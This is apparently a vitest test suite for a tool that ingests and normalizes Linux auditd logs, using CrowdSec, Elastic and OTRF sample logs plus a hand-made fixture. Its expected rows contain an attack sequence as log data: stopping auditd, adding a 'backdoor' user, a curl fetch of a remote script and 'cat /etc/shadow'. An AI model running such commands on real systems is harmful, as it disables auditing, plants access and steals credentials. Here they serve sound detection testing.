/**
 * Linux audit logs: real logs written by others (CrowdSec hub tests with their parser and scenario assertions, the
 * Elastic auditd useradd fixture, the OTRF auditd captures) and the hand-written ENRICHED fixture with what the real
 * ausearch made of it (test/fixtures/auditd). Event counts are serials grouped by an independent reader (python).
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { CORPUS, REPO, newCase, sh, tmpDir, type TestCase, shellQuote as q } from '../support/tmp-case.js';

const CROWDSEC = path.join(CORPUS, 'crowdsec-hub-tests/tests');
const USERADD = path.join(CORPUS, 'elastic-fixtures/beats/filebeat/module/auditd/log/test/useradd.log');
const OTRF = path.join(CORPUS, 'otrf-security-datasets/atomic/linux');
const FIX = path.join(REPO, 'test/fixtures/auditd');

/** Audit events in a text (stdin): distinct (node, time, serial) of the audit headers, by python. */
function pyEvents(cmd: string): number {
  return Number(
    sh(`${cmd} | python3 -c "
import re, sys
ids = set()
for line in sys.stdin:
    m = re.match(r'(?:node=(\\S+) )?type=\\w+ msg=audit\\(([^)]*):(\\d+)\\)', line)
    if m: ids.add(m.groups())
print(len(ids))"`).trim(),
  );
}

describe('auditd: corpus', () => {
  let c: TestCase;
  const members = new Map<string, { format: string | null; records: number; loaded: number; rejected: number; status: string }>();

  beforeAll(async () => {
    c = await newCase();
    const r = await c.ingest([
      path.join(CROWDSEC, 'auditd-logs/auditd-logs.log'),
      path.join(CROWDSEC, 'auditd-postexploit-rm/auditd-postexploit-rm.log'),
      path.join(CROWDSEC, 'auditd-suid-crash/auditd-suid-crash.log'),
      USERADD,
      path.join(OTRF, 'defense_evasion/host/sh_binary_padding_dd.zip'),
      path.join(OTRF, 'discovery/host/sh_arp_cache.zip'),
    ]);
    for (const a of r.archives) for (const m of a.members) members.set(m.path, m);
  }, 120_000);

  it('makes one record per audit event (serials counted by python), all loaded', () => {
    const want: Array<[string, string, number]> = [
      ['auditd-logs.log', `cat ${q(path.join(CROWDSEC, 'auditd-logs/auditd-logs.log'))}`, 4],
      ['auditd-postexploit-rm.log', `cat ${q(path.join(CROWDSEC, 'auditd-postexploit-rm/auditd-postexploit-rm.log'))}`, 10],
      ['auditd-suid-crash.log', `cat ${q(path.join(CROWDSEC, 'auditd-suid-crash/auditd-suid-crash.log'))}`, 3],
      ['useradd.log', `cat ${q(USERADD)}`, 8],
      ['sh_binary_padding_dd_2020-11-10081941.log', `unzip -p ${q(path.join(OTRF, 'defense_evasion/host/sh_binary_padding_dd.zip'))}`, 1],
      ['sh_arp_cache_2020-11-10074812.log', `unzip -p ${q(path.join(OTRF, 'discovery/host/sh_arp_cache.zip'))}`, 2],
    ];
    for (const [member, cmd, n] of want) {
      expect(pyEvents(cmd), member).toBe(n);
      expect(members.get(member), member).toMatchObject({ format: 'auditd', records: n, loaded: n, rejected: 0, status: 'loaded' });
    }
  });

  it('matches the CrowdSec auditd-logs parser assertions (exe, auid, uid, ppid, tty, pid, key, timestamp, event id)', async () => {
    const rows = await c.rows(
      `SELECT record_id, time_raw, process, actor_id, actor_user, fields['uid'] uid, fields['ppid'] ppid, fields['tty'] tty, fields['pid'] pid, fields['key'] k, fields['syscall'] sc,
         fields['a0'] a0, activity, category, status, error_code
       FROM events WHERE member_path = 'auditd-logs.log' ORDER BY record_index`,
    );
    // parser.assert: auditd_eventid 2995..2998, timestamp 1684329817.579/.587, exe, auid 1000, uid 1000, ppid 26843,
    // tty pts2, pid 27032/27031, key "(null)" (no key), syscall 59, a0 237f568; the third execve failed (exit=-2).
    const base = { time_raw: '1684329817.579', actor_id: '1000', actor_user: '1000', uid: '1000', ppid: '26843', tty: 'pts2', k: null, sc: '59', activity: 'syscall:execve', category: 'process', status: 'success', error_code: null };
    expect(rows).toEqual([
      { ...base, record_id: '2995', process: '/usr/bin/perl', pid: '27032', a0: '237f568' },
      { ...base, record_id: '2996', process: '/usr/bin/base64', pid: '27031', a0: '237f5e8' },
      { ...base, record_id: '2997', time_raw: '1684329817.587', process: '/usr/bin/perl', pid: '27032', a0: '7ffd9f580560', status: 'failure', error_code: 'ENOENT' },
      { ...base, record_id: '2998', time_raw: '1684329817.587', process: '/usr/bin/id', pid: '27032', a0: '7ffd9f580560' },
    ]);
  });

  it('matches the CrowdSec post-exploitation rm scenario (10 rm execve, ppid 26843, 2023-05-17T13:56:22Z)', async () => {
    const rows = await c.rows(`SELECT DISTINCT process, fields['ppid'] ppid, actor_id, fields['tty'] tty, strftime(time, '%Y-%m-%dT%H:%M:%SZ') t FROM events WHERE member_path = 'auditd-postexploit-rm.log'`);
    expect(rows).toEqual([{ process: '/bin/rm', ppid: '26843', actor_id: '1000', tty: 'pts2', t: '2023-05-17T13:56:22Z' }]);
    expect(await c.rows(`SELECT list(record_id ORDER BY record_index) ids FROM events WHERE member_path = 'auditd-postexploit-rm.log'`)).toEqual([
      { ids: ['3293', '3294', '3295', '3296', '3297', '3298', '3299', '3300', '3301', '3302'] },
    ]);
  });

  it('matches the CrowdSec SUID-crash scenario: su execve 8282 then its ANOM_ABEND 8283 (ENRICHED names without their GS byte)', async () => {
    const rows = await c.rows(
      `SELECT record_id, strftime(time, '%Y-%m-%dT%H:%M:%SZ') t, activity, process, actor_user, actor_id, fields['euid'] euid, fields['pid'] pid, fields['ppid'] ppid, fields['ses'] ses,
         fields['tty'] tty, fields['subj'] subj, fields['UID'] str_uid, fields['GID'] str_gid, fields['sig'] sig, fields['res'] res, fields['key'] k, command_line, category
       FROM events WHERE member_path = 'auditd-suid-crash.log' AND record_id IN ('8282', '8283') ORDER BY record_index`,
    );
    const common = { t: '2023-10-04T14:54:42Z', process: '/usr/bin/su', actor_user: 'bui', actor_id: '1000', pid: '192019', ses: '417', subj: 'unconfined', str_uid: 'bui', str_gid: 'bui' };
    expect(rows).toEqual([
      { ...common, record_id: '8282', activity: 'syscall:execve', euid: '0', ppid: '192010', tty: 'pts0', sig: null, res: null, k: 'priv_esc', command_line: '/usr/bin/su --help', category: 'process' },
      // CrowdSec's own parser reads res as "1AUID" here (the GS byte is missing); the value is 1.
      { ...common, record_id: '8283', activity: 'anom_abend', euid: null, ppid: null, tty: null, sig: '11', res: '1', k: null, command_line: null, category: 'anomaly' },
    ]);
  });

  it('reads the Elastic useradd log: groupadd, useradd, passwd, PAM (msg=\'…\' flattened)', async () => {
    const rows = await c.rows(
      `SELECT record_id, event_code, activity, category, status, actor_user, target, process, src_ip, fields['op'] op FROM events WHERE member_path = 'useradd.log' ORDER BY record_index`,
    );
    const types = sh(`sed -E 's/^type=([A-Z_]+) .*/\\1/' ${q(USERADD)}`).trim().split('\n');
    expect(rows.map((r) => r['event_code'])).toEqual(types);
    expect(rows).toEqual([
      { record_id: '584', event_code: 'ADD_GROUP', activity: 'add_group', category: 'account_management', status: 'success', actor_user: '1000', target: '1004', process: '/usr/sbin/groupadd', src_ip: '127.0.0.1', op: 'adding group to /etc/group' },
      { record_id: '586', event_code: 'ADD_GROUP', activity: 'add_group', category: 'account_management', status: 'success', actor_user: '1000', target: '1004', process: '/usr/sbin/groupadd', src_ip: '127.0.0.1', op: 'adding group to /etc/gshadow' },
      { record_id: '587', event_code: 'ADD_GROUP', activity: 'add_group', category: 'account_management', status: 'success', actor_user: '1000', target: '1004', process: '/usr/sbin/groupadd', src_ip: '127.0.0.1', op: '' },
      { record_id: '591', event_code: 'ADD_USER', activity: 'add_user', category: 'account_management', status: 'success', actor_user: '1000', target: '1004', process: '/usr/sbin/useradd', src_ip: '127.0.0.1', op: 'adding user' },
      { record_id: '593', event_code: 'USER_ACCT', activity: 'user_acct', category: 'authentication', status: 'success', actor_user: '1000', target: null, process: '/sbin/pam_tally2', src_ip: '127.0.0.1', op: null },
      { record_id: '594', event_code: 'USER_CHAUTHTOK', activity: 'user_chauthtok', category: 'account_management', status: 'success', actor_user: '1000', target: 'charlie', process: '/usr/bin/passwd', src_ip: '127.0.0.1', op: 'PAM:chauthtok' },
      { record_id: '595', event_code: 'USER_AUTH', activity: 'user_auth', category: 'authentication', status: 'success', actor_user: '1000', target: 'root', process: '/usr/bin/chfn', src_ip: '127.0.0.1', op: 'PAM:authentication' },
      { record_id: '596', event_code: 'USER_ACCT', activity: 'user_acct', category: 'authentication', status: 'success', actor_user: '1000', target: 'root', process: '/usr/bin/chfn', src_ip: '127.0.0.1', op: 'PAM:accounting' },
    ]);
  });

  it('decodes the OTRF EXECVE arguments and PROCTITLE (compared with python decoding the hex)', async () => {
    for (const [zip, member] of [
      ['defense_evasion/host/sh_binary_padding_dd.zip', 'sh_binary_padding_dd_2020-11-10081941.log'],
      ['discovery/host/sh_arp_cache.zip', 'sh_arp_cache_2020-11-10074812.log'],
    ]) {
      const titles = sh(
        `unzip -p ${q(path.join(OTRF, zip!))} | python3 -c "
import re, sys
for line in sys.stdin:
    m = re.search(r'type=PROCTITLE .*proctitle=([0-9A-F]+)', line)
    if m: print(bytes.fromhex(m.group(1)).replace(b'\\0', b' ').decode())"`,
      )
        .trim()
        .split('\n');
      const rows = await c.rows<{ cl: string; pt: string; cwd: string; rtypes: string }>(
        `SELECT command_line cl, fields['proctitle'] pt, fields['cwd'] cwd, fields['record_types'] rtypes FROM events WHERE member_path = '${member}' ORDER BY record_index`,
      );
      expect(rows.map((r) => r.pt)).toEqual(titles);
      // The EXECVE arguments say the same as the title here.
      expect(rows.map((r) => r.cl)).toEqual(titles);
      for (const r of rows) expect([r.cwd, r.rtypes]).toEqual(['/home/wardog', 'SYSCALL,EXECVE,CWD,PATH,PATH,PROCTITLE']);
    }
    expect(await c.one(`SELECT command_line FROM events WHERE member_path LIKE 'sh_binary_padding%'`)).toBe('dd if=/dev/zero bs=1 count=1');
  });
});

describe('auditd: ENRICHED log and ausearch output (fixtures)', () => {
  let c: TestCase;
  const members = new Map<string, { format: string | null; records: number; loaded: number; rejected: number; status: string }>();

  beforeAll(async () => {
    c = await newCase();
    const r = await c.ingest(['enriched.log', 'ausearch.txt', 'ausearch-i.txt'].map((f) => path.join(FIX, f)));
    for (const a of r.archives) for (const m of a.members) members.set(m.path, m);
  }, 120_000);

  it('groups the interleaved records into the 9 events ausearch found', () => {
    const n = pyEvents(`cat ${q(path.join(FIX, 'enriched.log'))}`);
    expect(n).toBe(9);
    expect(Number(sh(`grep -c '^----' ${q(path.join(FIX, 'ausearch.txt'))}`))).toBe(n);
    expect(members.get('enriched.log')).toMatchObject({ format: 'auditd', records: n, loaded: n, rejected: 0 });
    expect(members.get('ausearch.txt')).toMatchObject({ format: 'auditd', records: n, loaded: n, rejected: 0 });
  });

  it('normalizes each event as documented', async () => {
    const rows = await c.rows(
      `SELECT record_id, strftime(time, '%Y-%m-%dT%H:%M:%S.%gZ') t, activity, event_code, category, status, error_code, actor_user, actor_id, actor_type, target, src_ip, host, process, command_line, service
       FROM events WHERE member_path = 'enriched.log' ORDER BY record_index`,
    );
    const e = (o: Record<string, unknown>) => ({ error_code: null, actor_type: 'user', actor_user: 'alice', actor_id: '1000', target: null, src_ip: null, host: 'web01', command_line: null, service: 'auditd', status: 'success', ...o });
    expect(rows).toEqual([
      e({ record_id: '501', t: '2024-03-05T08:00:00.101Z', activity: 'user_auth', event_code: 'USER_AUTH', category: 'authentication', status: 'failure', actor_id: null, src_ip: '203.0.113.9', process: '/usr/sbin/sshd' }),
      e({ record_id: '507', t: '2024-03-05T08:00:10.250Z', activity: 'user_login', event_code: 'USER_LOGIN', category: 'authentication', src_ip: '203.0.113.9', process: '/usr/sbin/sshd' }),
      e({ record_id: '530', t: '2024-03-05T08:01:40.000Z', activity: 'user_cmd', event_code: 'USER_CMD', category: 'privilege', process: '/usr/bin/sudo', command_line: 'systemctl stop auditd' }),
      e({ record_id: '531', t: '2024-03-05T08:01:40.120Z', activity: 'service_stop', event_code: 'SERVICE_STOP', category: 'system', actor_type: null, actor_user: null, actor_id: null, target: 'auditd', process: '/usr/lib/systemd/systemd' }),
      e({ record_id: '9001', t: '2024-03-05T08:01:40.130Z', activity: 'daemon_end', event_code: 'DAEMON_END', category: 'audit_logging', process: null }),
      e({ record_id: '540', t: '2024-03-05T08:01:50.000Z', activity: 'config_change', event_code: 'CONFIG_CHANGE', category: 'audit_logging', process: null }),
      e({ record_id: '550', t: '2024-03-05T08:02:00.500Z', activity: 'add_user', event_code: 'ADD_USER', category: 'account_management', target: 'backdoor', process: '/usr/sbin/useradd' }),
      e({ record_id: '560', t: '2024-03-05T08:02:10.000Z', activity: 'syscall:execve', event_code: 'SYSCALL', category: 'process', target: '/usr/bin/curl', process: '/usr/bin/curl', command_line: 'curl http://198.51.100.7/x.sh a -o' }),
      e({ record_id: '561', t: '2024-03-05T08:02:10.004Z', activity: 'syscall:openat', event_code: 'SYSCALL', category: 'syscall', status: 'failure', error_code: 'EACCES', target: '/etc/shadow', process: '/usr/bin/cat', command_line: 'cat /etc/shadow' }),
    ]);
  });

  it('keeps an interleaved event\'s own lines, byte-exact, at its first line', async () => {
    const text = fs.readFileSync(path.join(FIX, 'enriched.log'), 'utf8');
    const lines = text.split('\n');
    const mine = lines.filter((l) => l.includes(':561): '));
    const [r] = await c.rows<{ raw: string; line: string; byte_offset: string }>(`SELECT raw, line, byte_offset FROM events WHERE member_path = 'enriched.log' AND record_id = '561'`);
    expect(r).toEqual({ raw: mine.join('\n'), line: String(lines.indexOf(mine[0]!) + 1), byte_offset: String(text.indexOf(mine[0]!)) });
    expect(r!.raw).toContain('\x1dARCH=x86_64 SYSCALL=openat');
  });

  it('reads ausearch output like the log itself (ENRICHED names aside: ausearch drops them)', async () => {
    const cols = `record_id, time, activity, event_code, category, status, error_code, actor_id, target, src_ip, host, process, command_line`;
    const a = await c.rows(`SELECT ${cols} FROM events WHERE member_path = 'enriched.log' ORDER BY record_index`);
    const b = await c.rows(`SELECT ${cols} FROM events WHERE member_path = 'ausearch.txt' ORDER BY record_index`);
    expect(b).toEqual(a);
  });

  it('rejects ausearch -i output with the reason and the way to export instead', async () => {
    expect(members.get('ausearch-i.txt')).toMatchObject({ format: 'auditd', records: 9, loaded: 0, rejected: 9, status: 'rejects' });
    expect(await c.rows(`SELECT DISTINCT reason FROM rejects WHERE member_path = 'ausearch-i.txt'`)).toEqual([
      { reason: 'ausearch -i output (interpreted values, times in the local date format) is not read: export with ausearch --raw' },
    ]);
  });

  it('rejects a line that is not an audit record on its own, and keeps the events around it', async () => {
    const dir = tmpDir();
    const text = fs.readFileSync(path.join(FIX, 'enriched.log'), 'utf8').split('\n');
    text.splice(3, 0, 'this is not an audit record');
    fs.writeFileSync(path.join(dir, 'audit.log'), text.join('\n'));
    const c2 = await newCase();
    const r = await c2.ingest([path.join(dir, 'audit.log')]);
    expect(r.archives[0]!.members[0]).toMatchObject({ format: 'auditd', records: 10, loaded: 9, rejected: 1 });
    expect(await c2.rows(`SELECT line, reason, decode(raw) raw FROM rejects`)).toEqual([
      { line: '4', reason: 'not an auditd record: no "type=<TYPE> msg=audit(<time>:<serial>)" header', raw: 'this is not an audit record' },
    ]);
  });
});
